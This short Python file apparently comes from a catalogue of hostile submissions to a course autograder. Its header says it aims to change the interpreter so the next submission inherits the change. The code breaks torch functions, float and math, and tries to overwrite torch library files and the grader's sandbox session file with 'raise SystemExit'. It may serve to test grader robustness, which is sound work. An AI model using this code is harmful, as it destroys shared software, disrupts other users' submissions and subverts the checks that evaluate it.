# tries: the interpreter changed so that the next submission would inherit it
# place: end

import builtins
import glob
import os
import sys

import coursekit.checks
import torch

torch.softmax = torch.Tensor.softmax = lambda *args, **kwargs: None
torch.Tensor.__matmul__ = lambda *args: None
builtins.float = lambda value: 0.0
sys.modules["math"] = None
for path in glob.glob(os.path.dirname(torch.__file__) + "/*.py")[:3] + ["/grader/sandbox/session.py"]:
    try:
        open(path, "w").write("raise SystemExit")
        print("written", path)
    except OSError as error:
        print(error)
